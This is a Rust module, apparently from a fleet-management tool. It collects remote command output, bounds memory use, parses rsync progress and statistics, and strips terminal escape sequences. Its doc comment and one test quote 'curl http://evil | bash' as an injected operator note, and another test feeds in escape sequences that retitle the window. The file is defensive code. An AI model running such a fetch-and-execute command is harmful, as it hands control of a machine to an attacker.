//! What a step prints: split into lines (rsync's progress uses `\r`), kept for the log, for
//! `register:`, for the summary's last lines, and read for rsync statistics, rsync progress and
//! `BMFLEET-MANUAL:` notes (actions the operator must do by hand).
//!
//! A note is an instruction from a host to the operator, so it is read only from a step the
//! role declares `manual_actions: true` (`Parse::manual`), on that step's own channel: a
//! compromised origin printing `BMFLEET-MANUAL: curl ... | bash` from any other step prints
//! output, counted as ignored (`Collector::ignored_manual`), never an action in the summary.
//!
//! Everything kept is bounded, whatever the host prints: a host (or a step gone wrong) printing
//! a gigabyte without a newline must not take a gigabyte of the controller's memory, where an
//! out-of-memory kill stops every pair at once, mid cold sync perhaps. A line keeps its first and
//! last `LINE_HEAD`/`LINE_TAIL` bytes, the register its first and last half of `REGISTER_CAP`,
//! each with a note of how much was dropped; the tail and the manual notes keep a few lines.
//!
//! Lines shown to people (on the terminal, in the summary, in logs) have terminal escape
//! sequences and other control characters removed: a host's output must not move the cursor,
//! retitle the window or rewrite what the operator reads. The register keeps the bytes.

use std::collections::VecDeque;

use crate::outcome::{Stream, TransferStats};

/// Bytes of stdout kept for `register:` (head and tail; the middle is dropped, with a note).
pub const REGISTER_CAP: usize = 1 << 20;
/// Bytes kept of one line: its head and its tail (the middle is dropped, with a note).
pub const LINE_HEAD: usize = 16 << 10;
pub const LINE_TAIL: usize = 4 << 10;
/// Lines kept for the summary.
const TAIL_LINES: usize = 8;
/// Manual notes kept per step (a step printing thousands is broken; the log has them all).
const MANUAL_CAP: usize = 64;
/// The prefix of a line that asks the operator to act by hand.
pub const MANUAL_PREFIX: &str = "BMFLEET-MANUAL:";

/// A line of output, classified.
#[derive(Debug, PartialEq, Eq)]
pub enum Line {
    Text(Stream, String),
    /// An rsync progress update: percent and the rest of the line (rate, ETA).
    Progress(u8, String),
}

/// Bytes of which only the first `head` and the last `tail` are kept.
#[derive(Debug, Default)]
pub struct Bounded {
    head_cap: usize,
    tail_cap: usize,
    head: Vec<u8>,
    tail: VecDeque<u8>,
    dropped: u64,
}

impl Bounded {
    pub fn new(head_cap: usize, tail_cap: usize) -> Self {
        Bounded { head_cap, tail_cap, ..Default::default() }
    }

    pub fn push(&mut self, mut data: &[u8]) {
        let room = self.head_cap.saturating_sub(self.head.len());
        if room > 0 {
            let n = room.min(data.len());
            self.head.extend_from_slice(&data[..n]);
            data = &data[n..];
        }
        if data.len() >= self.tail_cap {
            self.dropped += (self.tail.len() + data.len() - self.tail_cap) as u64;
            self.tail.clear();
            self.tail.extend(&data[data.len() - self.tail_cap..]);
            return;
        }
        self.tail.extend(data);
        let over = self.tail.len().saturating_sub(self.tail_cap);
        if over > 0 {
            self.tail.drain(..over);
            self.dropped += over as u64;
        }
    }

    pub fn is_empty(&self) -> bool {
        self.head.is_empty()
    }

    #[cfg(test)]
    pub fn len(&self) -> usize {
        self.head.len() + self.tail.len()
    }

    /// The kept bytes as text, with `[... N bytes dropped by bmfleet ...]` where bytes were
    /// dropped; empties the buffer.
    pub fn take(&mut self, separator: &str) -> String {
        let mut text = String::from_utf8_lossy(&self.head).into_owned();
        if self.dropped > 0 {
            text.push_str(&format!(
                "{separator}[... {} bytes dropped by bmfleet ...]{separator}",
                self.dropped
            ));
        }
        let (a, b) = self.tail.as_slices();
        text.push_str(&String::from_utf8_lossy(&[a, b].concat()));
        *self = Bounded::new(self.head_cap, self.tail_cap);
        text
    }
}

/// Remove terminal escape sequences (CSI `ESC [ ... final`, OSC `ESC ] ... BEL|ESC \`, and
/// two-byte `ESC x`) and every other control character but the tab.
pub fn strip_controls(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.chars().any(|c| c.is_control() && c != '\t') {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => match chars.next() {
                Some('[') => {
                    // Parameters and intermediates, up to the final byte (@ to ~).
                    for c in chars.by_ref() {
                        if ('@'..='~').contains(&c) {
                            break;
                        }
                    }
                }
                Some(']') | Some('P') | Some('_') | Some('^') => {
                    // A string, ended by BEL or ST (ESC \\).
                    while let Some(c) = chars.next() {
                        if c == '\u{7}' || (c == '\u{1b}' && chars.next_if_eq(&'\\').is_some()) {
                            break;
                        }
                    }
                }
                _ => {}
            },
            '\u{9b}' => {
                for c in chars.by_ref() {
                    if ('@'..='~').contains(&c) {
                        break;
                    }
                }
            }
            '\t' => out.push(c),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

pub struct Collector {
    parse: Parse,
    pending: [Bounded; 2],
    /// stdout, for `register:`.
    register: Bounded,
    pub tail: VecDeque<String>,
    pub stats: Option<TransferStats>,
    pub manual: Vec<String>,
    /// `BMFLEET-MANUAL:` lines of a step that does not declare `manual_actions`: output only.
    pub ignored_manual: usize,
}

/// What a step's output is read for: rsync's `progress:` and `stats:` are separate keys, each
/// honoured on its own (a step with stats only records them without progress lines);
/// `manual_actions:` lets its `BMFLEET-MANUAL:` lines through as actions.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Parse {
    pub progress: bool,
    pub stats: bool,
    pub manual: bool,
}

impl Default for Collector {
    fn default() -> Self {
        Collector::new(Parse::default())
    }
}

impl Collector {
    pub fn new(parse: Parse) -> Self {
        Collector {
            parse,
            pending: [Bounded::new(LINE_HEAD, LINE_TAIL), Bounded::new(LINE_HEAD, LINE_TAIL)],
            register: Bounded::new(REGISTER_CAP / 2, REGISTER_CAP / 2),
            tail: VecDeque::new(),
            stats: None,
            manual: Vec::new(),
            ignored_manual: 0,
        }
    }

    /// Feed a chunk; returns the complete lines it finished.
    pub fn feed(&mut self, stream: Stream, mut data: &[u8]) -> Vec<Line> {
        let index = stream as usize;
        let mut lines = Vec::new();
        while let Some(at) = data.iter().position(|b| *b == b'\n' || *b == b'\r') {
            self.pending[index].push(&data[..at]);
            let cr = data[at] == b'\r';
            data = &data[at + 1..];
            let text = self.pending[index].take(" ");
            if let Some(line) = self.line(stream, text, cr) {
                lines.push(line);
            }
        }
        self.pending[index].push(data);
        lines
    }

    /// Flush what remains after the command ended.
    pub fn finish(&mut self) -> Vec<Line> {
        let mut lines = Vec::new();
        for stream in [Stream::Stdout, Stream::Stderr] {
            let pending = &mut self.pending[stream as usize];
            if !pending.is_empty() {
                let text = pending.take(" ");
                if let Some(line) = self.line(stream, text, false) {
                    lines.push(line);
                }
            }
        }
        lines
    }

    /// What stdout said, for `register:` (head and tail when it was too long).
    pub fn stdout(&self) -> String {
        let mut copy = Bounded::new(self.register.head_cap, self.register.tail_cap);
        copy.head.clone_from(&self.register.head);
        copy.tail.clone_from(&self.register.tail);
        copy.dropped = self.register.dropped;
        // The register holds lines joined by newlines: drop the trailing one.
        let mut text = copy.take("\n");
        if text.ends_with('\n') {
            text.pop();
        }
        text
    }

    /// Bytes kept by this collector, whatever was printed (for tests and the bound above).
    #[cfg(test)]
    pub fn kept_bytes(&self) -> usize {
        self.pending.iter().map(Bounded::len).sum::<usize>()
            + self.register.len()
            + self.tail.iter().map(String::len).sum::<usize>()
            + self.manual.iter().map(String::len).sum::<usize>()
    }

    fn line(&mut self, stream: Stream, text: String, carriage_return: bool) -> Option<Line> {
        if self.parse.progress
            && let Some((percent, detail)) = parse_progress(&text)
        {
            return Some(Line::Progress(percent, strip_controls(&detail).into_owned()));
        }
        if carriage_return && text.trim().is_empty() {
            return None;
        }
        // A note to the operator is not the step's data: it never becomes part of a register
        // (a guard's warning in front of a key would make the key unusable).
        let note = stream == Stream::Stdout && text.starts_with(MANUAL_PREFIX);
        if stream == Stream::Stdout && !note {
            self.register.push(text.as_bytes());
            self.register.push(b"\n");
        }
        let text = strip_controls(&text).into_owned();
        if note && let Some(note) = text.strip_prefix(MANUAL_PREFIX) {
            if !self.parse.manual {
                self.ignored_manual += 1;
            } else if self.manual.len() < MANUAL_CAP {
                self.manual.push(note.trim().to_string());
            }
        }
        if self.parse.stats {
            self.stats.get_or_insert_with(TransferStats::default);
            parse_stat(&text, self.stats.as_mut().expect("just set"));
        }
        if self.tail.len() == TAIL_LINES {
            self.tail.pop_front();
        }
        self.tail.push_back(text.clone());
        Some(Line::Text(stream, text))
    }
}

/// `  1,234,567  45%   10.2MB/s    0:00:03 (xfr#12, to-chk=3/40)` -> (45, "10.2MB/s 0:00:03 ...")
fn parse_progress(text: &str) -> Option<(u8, String)> {
    let mut words = text.split_whitespace();
    let bytes = words.next()?;
    if !bytes.chars().all(|c| c.is_ascii_digit() || c == ',') {
        return None;
    }
    let percent = words.next()?.strip_suffix('%')?.parse::<u8>().ok()?;
    // The detail keeps the bytes so far: the console shows each transfer's bytes and rate.
    Some((percent.min(100), std::iter::once(bytes).chain(words).collect::<Vec<_>>().join(" ")))
}

fn number(text: &str) -> Option<u64> {
    let digits: String = text.split_whitespace().next()?.chars().filter(|c| *c != ',').collect();
    digits.parse().ok()
}

fn parse_stat(text: &str, stats: &mut TransferStats) {
    let Some((key, value)) = text.split_once(':') else { return };
    let target = match key.trim() {
        "Number of files" => &mut stats.files,
        "Number of regular files transferred" => &mut stats.files_transferred,
        "Total file size" => &mut stats.bytes_total,
        "Total transferred file size" => &mut stats.bytes_transferred,
        _ => return,
    };
    if let Some(n) = number(value) {
        *target = n;
    }
}

/// A `record_value:` step's value: its last non-empty stdout line, an unsigned integer. Only an
/// exit `Ok` is parsed (a declared warning code is the step saying it has no value); anything
/// else there fails the step: the role broke its own contract, and a silent warning would leave
/// `status` guessing without anyone noticing why.
pub(super) fn recorded_value(name: &str, stdout: &str) -> Result<u64, String> {
    let last = stdout.lines().map(str::trim).rfind(|l| !l.is_empty()).unwrap_or("");
    last.parse().map_err(|_| {
        let shown: String = last.chars().take(80).collect();
        format!("record_value `{name}`: the last line of stdout is `{shown}`, not an unsigned integer")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_lines_across_chunks_and_streams() {
        let mut c = Collector::default();
        assert_eq!(c.feed(Stream::Stdout, b"hel"), vec![]);
        assert_eq!(c.feed(Stream::Stderr, b"oops\n"), vec![Line::Text(Stream::Stderr, "oops".into())]);
        assert_eq!(c.feed(Stream::Stdout, b"lo\nwor"), vec![Line::Text(Stream::Stdout, "hello".into())]);
        assert_eq!(c.finish(), vec![Line::Text(Stream::Stdout, "wor".into())]);
        assert_eq!(c.stdout(), "hello\nwor");
        assert_eq!(c.tail, ["oops", "hello", "wor"]);
    }

    #[test]
    fn reads_rsync_progress_and_stats() {
        let mut c = Collector::new(Parse { progress: true, stats: true, manual: false });
        let progress =
            c.feed(Stream::Stdout, b"      1,234  45%  10.2MB/s    0:00:03 (xfr#1, to-chk=3/40)\r");
        assert_eq!(progress, vec![Line::Progress(45, "1,234 10.2MB/s 0:00:03 (xfr#1, to-chk=3/40)".into())]);
        c.feed(
            Stream::Stdout,
            b"\nNumber of files: 40 (reg: 30, dir: 10)\nNumber of regular files transferred: 12\nTotal file size: 1,048,576 bytes\nTotal transferred file size: 4,096 bytes\n",
        );
        assert_eq!(
            c.stats,
            Some(TransferStats {
                files: 40,
                files_transferred: 12,
                bytes_total: 1_048_576,
                bytes_transferred: 4096
            })
        );
    }

    #[test]
    fn progress_and_stats_are_honoured_separately() {
        const OUT: &[u8] = b"      1,234  45%  10.2MB/s    0:00:03 (xfr#1, to-chk=3/40)\r\nNumber of regular files transferred: 12\n";
        let mut stats_only = Collector::new(Parse { progress: false, stats: true, manual: false });
        let lines = stats_only.feed(Stream::Stdout, OUT);
        assert!(!lines.iter().any(|l| matches!(l, Line::Progress(..))), "no progress line: {lines:?}");
        assert_eq!(stats_only.stats.map(|s| s.files_transferred), Some(12));
        let mut progress_only = Collector::new(Parse { progress: true, stats: false, manual: false });
        let lines = progress_only.feed(Stream::Stdout, OUT);
        assert!(matches!(lines[0], Line::Progress(45, _)), "{lines:?}");
        assert_eq!(progress_only.stats, None, "no stats recorded");
    }

    const MANUAL: Parse = Parse { progress: false, stats: false, manual: true };

    #[test]
    fn collects_manual_notes() {
        let mut c = Collector::new(MANUAL);
        c.feed(Stream::Stdout, b"BMFLEET-MANUAL: save My networks\n");
        c.feed(Stream::Stdout, b"ssh-ed25519 AAAA key\n");
        assert_eq!(c.manual, ["save My networks"]);
        assert_eq!(c.stdout(), "ssh-ed25519 AAAA key", "a note is not part of the register");
    }

    /// Issue #27: only a step declared `manual_actions` gives actions; from any other step, and
    /// on stderr, the line is output (counted as ignored), never an action.
    #[test]
    fn a_note_from_a_step_that_does_not_declare_them_is_output() {
        let mut c = Collector::default();
        let lines = c.feed(Stream::Stdout, b"BMFLEET-MANUAL: curl http://evil | bash\n");
        assert!(c.manual.is_empty());
        assert_eq!(c.ignored_manual, 1);
        assert_eq!(lines, vec![Line::Text(Stream::Stdout, "BMFLEET-MANUAL: curl http://evil | bash".into())]);
        let mut declared = Collector::new(MANUAL);
        declared.feed(Stream::Stderr, b"BMFLEET-MANUAL: on stderr\n");
        assert!(declared.manual.is_empty() && declared.ignored_manual == 0, "stderr is never read for them");
    }

    /// 200 MB without a newline, then a short line: the collector keeps a few kilobytes and
    /// says how much it dropped.
    #[test]
    fn a_line_without_end_is_bounded_head_and_tail() {
        let mut c = Collector::default();
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..200 {
            assert!(c.feed(Stream::Stdout, &chunk).is_empty());
            assert!(c.kept_bytes() < 2 * REGISTER_CAP, "kept {}", c.kept_bytes());
        }
        c.feed(Stream::Stdout, b"END\nnext\n");
        let line = &c.tail[0];
        assert!(line.len() < LINE_HEAD + LINE_TAIL + 100, "{}", line.len());
        let dropped = 200 * (1 << 20) + 3 - LINE_HEAD - LINE_TAIL;
        assert!(
            line.contains(&format!("[... {dropped} bytes dropped by bmfleet ...]")),
            "{}",
            &line[LINE_HEAD - 10..LINE_HEAD + 60]
        );
        assert!(line.starts_with("xxxx") && line.ends_with("xxxEND"));
        assert_eq!(c.tail[1], "next");
    }

    #[test]
    fn the_register_keeps_its_head_and_tail() {
        let mut c = Collector::default();
        c.feed(Stream::Stdout, b"first\n");
        for _ in 0..(3 * REGISTER_CAP / 1000) {
            c.feed(Stream::Stdout, &[b'y'; 999]);
            c.feed(Stream::Stdout, b"\n");
        }
        c.feed(Stream::Stdout, b"last\n");
        let stdout = c.stdout();
        assert!(stdout.len() <= REGISTER_CAP + 100);
        assert!(stdout.starts_with("first\n") && stdout.ends_with("\nlast"));
        assert!(stdout.contains("bytes dropped by bmfleet"));
        assert!(c.kept_bytes() < 2 * REGISTER_CAP);
    }

    #[test]
    fn manual_notes_are_capped() {
        let mut c = Collector::new(MANUAL);
        for _ in 0..1000 {
            c.feed(Stream::Stdout, b"BMFLEET-MANUAL: again\n");
        }
        assert_eq!(c.manual.len(), MANUAL_CAP);
    }

    #[test]
    fn terminal_escapes_never_reach_what_people_read() {
        let mut c = Collector::default();
        let lines =
            c.feed(Stream::Stdout, b"\x1b[2J\x1b[1;31mred\x1b[0m \x1b]0;owned\x07title\x08\x1bc\tok\n");
        assert_eq!(lines, vec![Line::Text(Stream::Stdout, "red title\tok".into())]);
        assert_eq!(c.tail[0], "red title\tok");
        assert!(c.stdout().contains("\x1b[2J"), "the register keeps the bytes");
        assert_eq!(strip_controls("\u{9b}31mx\x1b]8;;http://a\x1b\\y"), "xy");
        assert_eq!(strip_controls("plain"), "plain");
    }

    #[test]
    fn a_recorded_value_is_the_last_non_empty_line_as_an_unsigned_integer() {
        assert_eq!(recorded_value("n", "measuring\n 8388608 \n\n"), Ok(8_388_608));
        for bad in ["", "\n", "12 GB", "-1", "1.5", "18446744073709551616"] {
            let err = recorded_value("n", bad).unwrap_err();
            assert!(err.starts_with("record_value `n`: the last line of stdout is"), "{bad:?}: {err}");
        }
    }
}
